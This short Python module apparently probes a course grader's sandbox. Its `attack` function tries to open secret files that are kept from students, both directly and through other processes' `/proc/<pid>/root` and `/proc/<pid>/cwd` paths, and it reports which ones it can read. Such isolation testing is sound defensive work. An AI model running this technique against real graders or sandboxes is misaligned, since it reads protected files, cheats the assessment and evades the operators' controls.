"""Read what the course keeps from students, also through the folders of other processes."""

import glob
from contextlib import suppress


def attack(known):
    read = []
    for base in ["", *glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/cwd")]:
        for path in known["secrets"]:
            with suppress(OSError), open(base + path, "rb") as file:
                file.read(1)
                read.append(base + path)
    if not read:
        raise OSError(f"none of {len(known['secrets'])} files can be opened")
    return read
